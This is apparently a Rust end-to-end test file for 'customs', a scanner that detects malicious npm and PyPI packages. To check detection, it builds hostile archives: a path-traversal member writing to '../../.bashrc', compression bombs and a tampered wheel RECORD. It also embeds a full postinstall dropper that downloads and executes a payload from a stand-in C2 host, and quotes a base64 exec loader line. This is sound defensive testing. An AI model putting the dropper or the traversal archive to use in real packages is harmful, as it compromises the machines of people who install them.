//! End-to-end tests of `customs scan`: the real binary on fixture packages packed as a
//! registry would serve them, hostile archives built here, and every output format.

#![allow(clippy::unwrap_used)]

mod common;

use std::path::Path;

use common::{customs, pack_fixture, root, stdout};
use serde_json::Value;

fn json(dir: &Path, args: &[&str]) -> (Value, i32) {
    let mut all = vec!["scan", "--format", "json"];
    all.extend_from_slice(args);
    let out = customs(dir, &all);
    let v: Value = serde_json::from_slice(&out.stdout)
        .unwrap_or_else(|e| panic!("{e}: {}", String::from_utf8_lossy(&out.stderr)));
    (v, out.status.code().unwrap())
}

fn packages(v: &Value) -> &Vec<Value> {
    v["packages"].as_array().unwrap()
}

/// Every fixture, packed as its registry would serve it: malicious ones are
/// `malicious`, their benign look-alikes `clean`.
#[test]
fn fixtures_get_the_right_verdict() {
    let tmp = tempfile::tempdir().unwrap();
    let fixtures = root().join("tests/fixtures");
    let mut expected = Vec::new();
    for e in std::fs::read_dir(&fixtures).unwrap() {
        let path = e.unwrap().path();
        if path.is_dir() {
            let file = pack_fixture(&path, tmp.path());
            let name = path.file_name().unwrap().to_string_lossy().into_owned();
            expected.push((
                file,
                if name.starts_with("malicious-") {
                    "malicious"
                } else {
                    "clean"
                },
            ));
        }
    }
    assert!(expected.len() >= 18, "fixtures missing: {}", expected.len());
    let (v, code) = json(tmp.path(), &["."]);
    assert_eq!(code, 1, "a malicious package makes the run fail");
    assert!(
        v["errors"].as_array().unwrap().is_empty(),
        "{}",
        v["errors"]
    );
    for (file, verdict) in expected {
        let p = packages(&v)
            .iter()
            .find(|p| p["target"].as_str().unwrap().ends_with(&file))
            .unwrap_or_else(|| panic!("{file} not in the report"));
        let rules: Vec<&str> = p["findings"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| f["rule"].as_str().unwrap())
            .collect();
        assert_eq!(
            p["verdict"], verdict,
            "{file}: score {} rules {rules:?}",
            p["score"]
        );
    }
}

fn finding<'a>(p: &'a Value, rule: &str) -> &'a Value {
    p["findings"]
        .as_array()
        .unwrap()
        .iter()
        .find(|f| f["rule"] == rule)
        .unwrap_or_else(|| panic!("no {rule} finding in {}", p["findings"]))
}

/// The report quotes the exact lines: the Lazarus-style loader hidden in `test.py`,
/// imported by `__init__.py`, is found at its line, at import time.
#[test]
fn findings_quote_their_evidence() {
    let tmp = tempfile::tempdir().unwrap();
    let file = pack_fixture(
        &root().join("tests/fixtures/malicious-py-import-loader"),
        tmp.path(),
    );
    let (v, _) = json(tmp.path(), &[&file]);
    let p = &packages(&v)[0];
    assert_eq!(p["ecosystem"], "pypi");
    assert_eq!(p["name"], "pyfetchutil");
    assert_eq!(p["version"], "1.0.3");
    assert_eq!(p["sha256"].as_str().unwrap().len(), 64);
    let f = finding(p, "decode-execute");
    assert_eq!(
        f["path"],
        "malicious-py-import-loader-1.0.0/pyfetchutil/test.py"
    );
    assert_eq!(f["line"], 5);
    assert_eq!(f["context"], "import");
    assert_eq!(f["severity"], "critical");
    assert_eq!(f["snippet"], "exec(base64.b64decode(_d[::-1]))");
    // The decoded payload's own behaviour is reported at the place that runs it.
    let d = finding(p, "download-execute");
    assert!(
        d["message"]
            .as_str()
            .unwrap()
            .contains("in the decoded payload"),
        "{d}"
    );
}

/// npm: the postinstall target is install-time code; its dropper is named.
#[test]
fn npm_lifecycle_targets_are_install_time() {
    let tmp = tempfile::tempdir().unwrap();
    let file = pack_fixture(
        &root().join("tests/fixtures/malicious-npm-postinstall-dropper"),
        tmp.path(),
    );
    let (v, code) = json(tmp.path(), &[&file]);
    assert_eq!(code, 1);
    let p = &packages(&v)[0];
    assert_eq!(p["ecosystem"], "npm");
    assert_eq!(p["name"], "plain-crypto-utils");
    let f = finding(p, "download-execute");
    assert_eq!(f["path"], "package/setup.js");
    assert_eq!(f["context"], "install");
    assert_eq!(finding(p, "hidden-process")["context"], "install");
}

#[test]
fn exit_codes() {
    let tmp = tempfile::tempdir().unwrap();
    let fixtures = root().join("tests/fixtures");
    let benign = pack_fixture(&fixtures.join("benign-py-pth-hook"), tmp.path());
    let persistence = pack_fixture(&fixtures.join("malicious-py-persistence"), tmp.path());
    // Clean: 0.
    assert_eq!(
        customs(tmp.path(), &["scan", &benign]).status.code(),
        Some(0)
    );
    // Malicious: 1.
    assert_eq!(
        customs(tmp.path(), &["scan", &persistence]).status.code(),
        Some(1)
    );
    // A usage error: 2.
    assert_eq!(
        customs(tmp.path(), &["scan", "--format", "yaml", &benign])
            .status
            .code(),
        Some(2)
    );
    assert_eq!(customs(tmp.path(), &["scan"]).status.code(), Some(2));
    // A target that does not exist: 2, with the error named.
    let out = customs(tmp.path(), &["scan", "missing.whl"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stdout(&out).contains("missing.whl: no such file or folder"),
        "{}",
        stdout(&out)
    );
}

/// `--fail-on suspicious` fails on a suspicious package that the default lets through.
#[test]
fn fail_on_suspicious() {
    let tmp = tempfile::tempdir().unwrap();
    let pkg = tmp.path().join("reqeusts");
    std::fs::create_dir_all(&pkg).unwrap();
    std::fs::write(
        pkg.join("PKG-INFO"),
        "Metadata-Version: 2.1\nName: reqeusts\nVersion: 2.0.0\nSummary: HTTP\n",
    )
    .unwrap();
    let (v, code) = json(tmp.path(), &["reqeusts"]);
    assert_eq!(packages(&v)[0]["verdict"], "suspicious", "{v}");
    assert_eq!(code, 0);
    let (_, code) = json(tmp.path(), &["--fail-on", "suspicious", "reqeusts"]);
    assert_eq!(code, 1);
}

/// A truncated archive and a file that is no archive are errors for those targets
/// alone: the others are still scanned, and the run exits 2.
#[test]
fn unreadable_targets_do_not_stop_the_others() {
    let tmp = tempfile::tempdir().unwrap();
    let good = pack_fixture(&root().join("tests/fixtures/benign-npm-cli"), tmp.path());
    let bytes = std::fs::read(tmp.path().join(&good)).unwrap();
    std::fs::write(
        tmp.path().join("truncated-1.0.0.tgz"),
        &bytes[..bytes.len() / 2],
    )
    .unwrap();
    std::fs::write(
        tmp.path().join("page-1.0.0.tar.gz"),
        b"<html>502 Bad Gateway</html>",
    )
    .unwrap();
    let (v, code) = json(tmp.path(), &["."]);
    assert_eq!(code, 2);
    assert_eq!(packages(&v).len(), 1);
    assert_eq!(packages(&v)[0]["verdict"], "clean");
    let errors: Vec<String> = v["errors"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| format!("{}: {}", e["target"], e["message"]))
        .collect();
    assert_eq!(errors.len(), 2, "{errors:?}");
    assert!(errors.iter().any(|e| e.contains("truncated-1.0.0.tgz") && e.contains("corrupt or truncated tar.gz")), "{errors:?}");
    assert!(
        errors
            .iter()
            .any(|e| e.contains("page-1.0.0.tar.gz") && e.contains("not a package archive")),
        "{errors:?}"
    );
}

/// Hostile archives give findings on the package, not crashes.
#[test]
fn hostile_archives_are_findings() {
    let tmp = tempfile::tempdir().unwrap();
    // A tar whose member climbs out of the extraction folder; written raw, since
    // archive builders refuse such names.
    let mut raw = Vec::new();
    {
        let mut b = tar::Builder::new(&mut raw);
        let mut h = tar::Header::new_gnu();
        let data = b"echo owned\n";
        h.set_size(data.len() as u64);
        h.set_mode(0o644);
        {
            let name = b"../../.bashrc";
            let gnu = h.as_gnu_mut().unwrap();
            gnu.name[..name.len()].copy_from_slice(name);
        }
        h.set_cksum();
        b.append(&h, &data[..]).unwrap();
        let mut h = tar::Header::new_gnu();
        let pkg = b"Metadata-Version: 2.1\nName: escaper\nVersion: 1.0\n";
        h.set_size(pkg.len() as u64);
        h.set_mode(0o644);
        h.set_cksum();
        b.append_data(&mut h, "escaper-1.0/PKG-INFO", &pkg[..])
            .unwrap();
        b.finish().unwrap();
    }
    let mut gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
    std::io::Write::write_all(&mut gz, &raw).unwrap();
    std::fs::write(tmp.path().join("escaper-1.0.tar.gz"), gz.finish().unwrap()).unwrap();

    // A wheel whose file was changed after its RECORD was written.
    let wheel = common::zip(&[
        ("demo/__init__.py".into(), b"print('changed')\n".to_vec()),
        ("demo/added.py".into(), b"import os\n".to_vec()),
        ("demo-1.0.dist-info/METADATA".into(), b"Metadata-Version: 2.1\nName: demo\nVersion: 1.0\nSummary: d\n".to_vec()),
        ("demo-1.0.dist-info/RECORD".into(), b"demo/__init__.py,sha256=47DEQpj8HBSa-_TImW-5JCeuQeRkm5NMpJWZG3hSuFU,4\ndemo-1.0.dist-info/METADATA,,\ndemo-1.0.dist-info/RECORD,,\n".to_vec()),
    ]);
    std::fs::write(tmp.path().join("demo-1.0-py3-none-any.whl"), wheel).unwrap();

    // A compression bomb inside an npm tarball.
    let mut big = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::best());
    {
        let mut b = tar::Builder::new(&mut big);
        let zeros = vec![0u8; 40 << 20];
        let mut h = tar::Header::new_ustar();
        h.set_size(zeros.len() as u64);
        h.set_mode(0o644);
        h.set_cksum();
        b.append_data(&mut h, "package/data.bin", zeros.as_slice())
            .unwrap();
        b.finish().unwrap();
    }
    std::fs::write(tmp.path().join("bomb-1.0.0.tgz"), big.finish().unwrap()).unwrap();

    let (v, _) = json(tmp.path(), &["."]);
    assert!(
        v["errors"].as_array().unwrap().is_empty(),
        "{}",
        v["errors"]
    );
    let by_file = |f: &str| {
        packages(&v)
            .iter()
            .find(|p| p["target"].as_str().unwrap().ends_with(f))
            .unwrap()
            .clone()
    };
    let escaper = by_file("escaper-1.0.tar.gz");
    assert_eq!(
        finding(&escaper, "archive-path-escape")["path"],
        "../../.bashrc"
    );
    assert_eq!(escaper["verdict"], "suspicious");
    let demo = by_file("demo-1.0-py3-none-any.whl");
    let record = finding(&demo, "wheel-record");
    assert_eq!(record["path"], "demo/__init__.py");
    assert!(
        record["message"].as_str().unwrap().contains("RECORD says"),
        "{record}"
    );
    let bomb = by_file("bomb-1.0.0.tgz");
    assert_eq!(finding(&bomb, "archive-bomb")["severity"], "high");
}

/// An install-time dropper, inert: it would fetch a payload and run it.
const DROPPER: &[u8] = b"const http = require('http');
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execFileSync } = require('child_process');
const dest = path.join(os.tmpdir(), 'update-helper');
http.get('http://c2.example.invalid/stage2', (res) => {
  const file = fs.createWriteStream(dest);
  res.pipe(file);
  file.on('finish', () => {
    fs.chmodSync(dest, 0o755);
    execFileSync(dest);
  });
});
";

/// The npm tarball of issue 28 item 11: `package.json` with a postinstall hook, then
/// `padding` bytes of zeros, then the dropper the hook runs.
fn padded_dropper(padding: usize) -> Vec<u8> {
    let zeros = vec![0u8; padding];
    let mut files: Vec<(&str, &[u8])> = vec![(
        "package.json",
        br#"{"name":"padded-helper","version":"1.0.0","main":"index.js","scripts":{"postinstall":"node setup.js"}}"#,
    )];
    if padding > 0 {
        files.push(("padding.bin", &zeros));
    }
    files.push(("setup.js", DROPPER));
    files.push(("index.js", b"module.exports = require('./setup.js');\n"));
    common::tar_gz_of(&files, "package/")
}

/// A compression bomb in the middle of an npm tarball does not hide the members after
/// it: they are analysed, and the package is as malicious as without the padding.
#[test]
fn a_bomb_does_not_hide_what_follows_it() {
    let tmp = tempfile::tempdir().unwrap();
    let padded = padded_dropper(12 << 20);
    assert!(padded.len() < 20_000, "{} bytes", padded.len());
    std::fs::write(tmp.path().join("padded-helper-1.0.0.tgz"), &padded).unwrap();
    std::fs::write(tmp.path().join("plain-helper-1.0.0.tgz"), padded_dropper(0)).unwrap();
    for file in ["padded-helper-1.0.0.tgz", "plain-helper-1.0.0.tgz"] {
        let (v, code) = json(tmp.path(), &[file]);
        let p = &packages(&v)[0];
        assert_eq!(p["verdict"], "malicious", "{file}: {p}");
        assert_eq!(code, 1, "{file}");
        assert!(p.get("incomplete").is_none(), "{file}: {p}");
        let dropper: Vec<&Value> = p["findings"]
            .as_array()
            .unwrap()
            .iter()
            .filter(|f| f["path"] == "package/setup.js" && f["severity"] != "info")
            .collect();
        assert!(
            dropper.iter().any(|f| f["rule"] == "download-execute"),
            "{file}: the dropper's finding is missing: {p}"
        );
    }
    let (v, _) = json(tmp.path(), &["padded-helper-1.0.0.tgz"]);
    assert_eq!(
        finding(&packages(&v)[0], "archive-bomb")["path"],
        "package/padding.bin"
    );
}

/// An artifact that breaks off after some members is judged on what was read and
/// reported as not read in full, which fails the scan (exit 2) whatever that verdict.
#[test]
fn an_artifact_not_read_in_full_fails_the_scan() {
    let tmp = tempfile::tempdir().unwrap();
    let noise: Vec<u8> = (0..400_000u32)
        .map(|i| (i.wrapping_mul(2_654_435_761) >> 24) as u8)
        .collect();
    let whole = common::tar_gz_of(
        &[
            ("package.json", br#"{"name":"cut","version":"1.0.0"}"#),
            ("index.js", b"module.exports = 1;\n"),
            ("data.bin", &noise),
            ("setup.js", DROPPER),
        ],
        "package/",
    );
    std::fs::write(tmp.path().join("cut-1.0.0.tgz"), &whole[..whole.len() / 2]).unwrap();
    let (v, code) = json(tmp.path(), &["cut-1.0.0.tgz"]);
    assert_eq!(code, 2, "{v}");
    let p = &packages(&v)[0];
    assert_eq!(p["incomplete"][0]["cause"], "truncated", "{p}");
    let out = customs(tmp.path(), &["scan", "cut-1.0.0.tgz"]);
    assert_eq!(out.status.code(), Some(2));
    assert!(
        stdout(&out).contains("not read in full"),
        "{}",
        stdout(&out)
    );
    // An update to it fails `diff` the same way.
    std::fs::write(tmp.path().join("cut-0.9.0.tgz"), &whole).unwrap();
    let out = customs(
        tmp.path(),
        &["diff", "--offline", "cut-0.9.0.tgz", "cut-1.0.0.tgz"],
    );
    assert_eq!(out.status.code(), Some(2), "{}", stdout(&out));
}

/// A wheel's RECORD is checked against every member: by sha256 for what customs reads,
/// by size for what it does not inflate (a native library past its header, an image), so
/// a swapped binary is caught without inflating every binary of every wheel.
#[test]
fn wheel_record_checks_uninflated_members_by_size() {
    use base64::Engine;
    use sha2::Digest;
    let tmp = tempfile::tempdir().unwrap();
    let mut native = b"\x7fELF\x02\x01\x01".to_vec();
    native.resize(4096, 0x90);
    let png = [b"\x89PNG\r\n\x1a\n".as_slice(), &[7u8; 600]].concat();
    let members: Vec<(String, Vec<u8>)> = vec![
        (
            "native/__init__.py".into(),
            b"from ._core import run\n".to_vec(),
        ),
        (
            "native/_core.cpython-312-x86_64-linux-gnu.so".into(),
            native,
        ),
        ("native/logo.png".into(), png),
        (
            "native-1.0.dist-info/METADATA".into(),
            b"Metadata-Version: 2.1\nName: native\nVersion: 1.0\nSummary: n\n".to_vec(),
        ),
    ];
    let record = |so_size: Option<usize>| {
        let mut text = String::new();
        for (path, data) in &members {
            let digest =
                base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(sha2::Sha256::digest(data));
            let size = match so_size {
                Some(n) if path.ends_with(".so") => n,
                _ => data.len(),
            };
            text.push_str(&format!("{path},sha256={digest},{size}\n"));
        }
        text.push_str("native-1.0.dist-info/RECORD,,\n");
        text.into_bytes()
    };
    let with_record = |record: Vec<u8>| {
        let mut all = members.clone();
        all.push(("native-1.0.dist-info/RECORD".into(), record));
        common::zip(&all)
    };
    let good = tmp.path().join("good");
    let swapped = tmp.path().join("swapped");
    for (dir, rec) in [(&good, record(None)), (&swapped, record(Some(3000)))] {
        std::fs::create_dir(dir).unwrap();
        std::fs::write(
            dir.join("native-1.0-cp312-cp312-linux_x86_64.whl"),
            with_record(rec),
        )
        .unwrap();
    }

    let (v, _) = json(&good, &["."]);
    let p = &packages(&v)[0];
    assert!(
        p["findings"]
            .as_array()
            .unwrap()
            .iter()
            .all(|f| f["rule"] != "wheel-record"),
        "a consistent RECORD is no finding: {}",
        p["findings"]
    );

    let (v, _) = json(&swapped, &["."]);
    let p = &packages(&v)[0];
    let f = finding(p, "wheel-record");
    assert_eq!(f["path"], "native/_core.cpython-312-x86_64-linux-gnu.so");
    assert!(
        f["message"]
            .as_str()
            .unwrap()
            .starts_with("size is 4096 bytes, RECORD says 3000"),
        "{f}"
    );
    let record_findings = p["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["rule"] == "wheel-record")
        .count();
    assert_eq!(record_findings, 1, "{}", p["findings"]);
}

/// SARIF output is valid SARIF 2.1.0 (checked against the OASIS schema) with what
/// GitHub code scanning needs: rules with help text, results with locations.
#[test]
fn sarif_is_valid() {
    let out = customs(
        &root(),
        &[
            "scan",
            "--format",
            "sarif",
            "examples/",
            "tests/fixtures/malicious-npm-worm",
        ],
    );
    assert_eq!(out.status.code(), Some(1));
    let log: Value = serde_json::from_slice(&out.stdout).unwrap();
    let schema: Value = serde_json::from_str(
        &std::fs::read_to_string(
            root().join("crates/customs-report/tests/data/sarif-schema-2.1.0.json"),
        )
        .unwrap(),
    )
    .unwrap();
    // The published schema's `language` patterns (`...[a-zA-Z]{2}]?$`) is not a valid
    // regex, so the schema fails its own meta-schema. customs never writes `language`;
    // that one keyword is dropped in memory and everything else is enforced.
    let mut schema = schema;
    let mut dropped = 0;
    for def in ["run", "toolComponent"] {
        let language = &mut schema["definitions"][def]["properties"]["language"];
        if language["pattern"]
            .as_str()
            .is_some_and(|p| p.ends_with("]?$"))
        {
            language.as_object_mut().unwrap().remove("pattern");
            dropped += 1;
        }
    }
    assert_eq!(dropped, 2, "the schema changed: revisit this workaround");
    let validator = jsonschema::validator_for(&schema).unwrap();
    let errors: Vec<String> = validator
        .iter_errors(&log)
        .map(|e| format!("{e} at {}", e.instance_path()))
        .collect();
    assert!(errors.is_empty(), "{errors:#?}");
    let run = &log["runs"][0];
    let rules = run["tool"]["driver"]["rules"].as_array().unwrap();
    assert!(rules.iter().all(|r| {
        r["help"]["text"]
            .as_str()
            .is_some_and(|t| t.contains("## Why"))
    }));
    let results = run["results"].as_array().unwrap();
    assert!(!results.is_empty());
    for r in results {
        assert!(
            r["locations"][0]["physicalLocation"]["artifactLocation"]["uri"].is_string(),
            "{r}"
        );
        let i = r["ruleIndex"].as_u64().unwrap() as usize;
        assert_eq!(rules[i]["id"], r["ruleId"]);
    }
    // Findings in a package folder point at the real file and line.
    let decode = results
        .iter()
        .find(|r| r["ruleId"] == "decode-execute")
        .unwrap();
    let loc = &decode["locations"][0]["physicalLocation"];
    assert_eq!(
        loc["artifactLocation"]["uri"],
        "examples/colourama/colourama/__init__.py"
    );
    assert_eq!(loc["region"]["startLine"], 3);
}

/// Snapshots of what users see, for the demonstration packages.
#[test]
fn report_snapshots() {
    let text = stdout(&customs(
        &root(),
        &["scan", "--color", "never", "examples/"],
    ));
    insta::assert_snapshot!("examples_text", text);
    let (mut v, _) = json(&root(), &["examples/"]);
    v["customs_version"] = "[version]".into();
    insta::assert_json_snapshot!("examples_json", v);
}

/// A report snapshot per fixture package: a reviewer sees any change of behaviour in
/// the diff.
#[test]
fn fixture_report_snapshots() {
    let fixtures = root().join("tests/fixtures");
    let mut names: Vec<String> = std::fs::read_dir(&fixtures)
        .unwrap()
        .map(|e| e.unwrap().path())
        .filter(|p| p.is_dir())
        .map(|p| p.file_name().unwrap().to_string_lossy().into_owned())
        .collect();
    names.sort();
    for name in names {
        let target = format!("tests/fixtures/{name}");
        let text = stdout(&customs(
            &root(),
            &["scan", "--color", "never", "-v", &target],
        ));
        insta::assert_snapshot!(name, text);
    }
}

/// The in-tree build backend named by `pyproject.toml` runs at install time.
#[test]
fn build_backend_is_install_time() {
    let (v, _) = json(&root(), &["tests/fixtures/malicious-py-build-backend"]);
    let p = &packages(&v)[0];
    let f = finding(p, "download-execute");
    assert_eq!(f["path"], "_build/backend.py");
    assert_eq!(f["context"], "install");
}

#[test]
fn rules_command_documents_every_rule() {
    let out = customs(&root(), &["rules"]);
    assert_eq!(out.status.code(), Some(0));
    let list = stdout(&out);
    for id in [
        "decode-execute",
        "download-execute",
        "name-confusion",
        "archive-bomb",
        "wheel-record",
    ] {
        assert!(list.contains(id), "{id} missing from:\n{list}");
    }
    let doc = stdout(&customs(&root(), &["rules", "pth-file"]));
    assert!(
        doc.starts_with("pth-file: a .pth file runs code at every interpreter start"),
        "{doc}"
    );
    assert!(doc.contains("## When it is wrong"));
    assert_eq!(customs(&root(), &["rules", "nope"]).status.code(), Some(2));
}

/// An install script that acts only on machines in some time zones and talks to the
/// network: the two together are a capability chain.
#[test]
fn geofenced_install_script_that_talks_to_the_network() {
    let (v, _) = json(
        &root(),
        &["tests/fixtures/malicious-npm-geofenced-postinstall"],
    );
    let p = &packages(&v)[0];
    let f = finding(p, "capability-chain");
    assert_eq!(f["context"], "install");
    assert!(
        f["message"]
            .as_str()
            .is_some_and(|m| m.starts_with("acts only on some machines")),
        "{f:#}"
    );
}
